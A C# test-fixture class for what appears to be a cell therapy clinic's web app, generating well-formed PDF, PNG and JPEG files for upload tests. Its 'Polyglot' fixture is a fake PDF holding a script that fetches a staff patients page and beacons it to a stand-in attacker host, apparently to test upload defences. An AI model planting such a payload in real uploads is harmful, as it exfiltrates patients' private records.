using System.Globalization;
using System.Text;
using SkiaSharp;

namespace CellTherapyCenter.Web.Tests.Uploads;

/// <summary>Well-formed documents of a chosen size for upload tests, and the polyglot of issue 16.</summary>
public static class TestDocuments
{
    /// <summary>"%PDF-" followed by a web page: what a browser that sniffs renders as HTML and runs.</summary>
    public static byte[] Polyglot { get; } = Encoding.ASCII.GetBytes(
        "%PDF-1.4\n<html><body><script>fetch('/staff/patients').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script></body></html>\n");

    /// <summary>
    /// A one-page PDF with a correct cross-reference table and trailer, padded with comment lines
    /// to exactly <paramref name="size"/> bytes when that is larger than the bare document.
    /// </summary>
    public static byte[] Pdf(int size = 2000)
    {
        var bare = BuildPdf(0);
        if (size <= bare.Length) return bare;
        // The padding moves the cross-reference table, whose offset may gain a digit: adjust and rebuild.
        var padding = size - bare.Length;
        for (var attempt = 0; attempt < 4; attempt++)
        {
            var pdf = BuildPdf(padding);
            if (pdf.Length == size) return pdf;
            padding -= pdf.Length - size;
        }
        throw new InvalidOperationException($"Could not build a PDF of exactly {size} bytes.");
    }

    private static byte[] BuildPdf(int padding)
    {
        var text = new StringBuilder("%PDF-1.4\n");
        // Comment lines of at most 72 characters ("%" + filler + "\n"), filling exactly the padding.
        var left = padding;
        while (left > 0)
        {
            var line = Math.Min(left, 72);
            if (line == 1) { text.Append('\n'); left--; continue; }
            text.Append('%').Append('x', line - 2).Append('\n');
            left -= line;
        }
        string[] objects =
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ];
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(text.Length);
            text.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var xref = text.Length;
        text.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) text.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        text.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(text.ToString());
    }

    public static byte[] Png(int width = 40, int height = 30) => Image(SKEncodedImageFormat.Png, width, height);

    public static byte[] Jpeg(int width = 40, int height = 30) => Image(SKEncodedImageFormat.Jpeg, width, height);

    private static byte[] Image(SKEncodedImageFormat format, int width, int height)
    {
        using var bitmap = new SKBitmap(width, height);
        bitmap.Erase(SKColors.SteelBlue);
        using var image = SKImage.FromBitmap(bitmap);
        using var data = image.Encode(format, 90);
        return data.ToArray();
    }
}
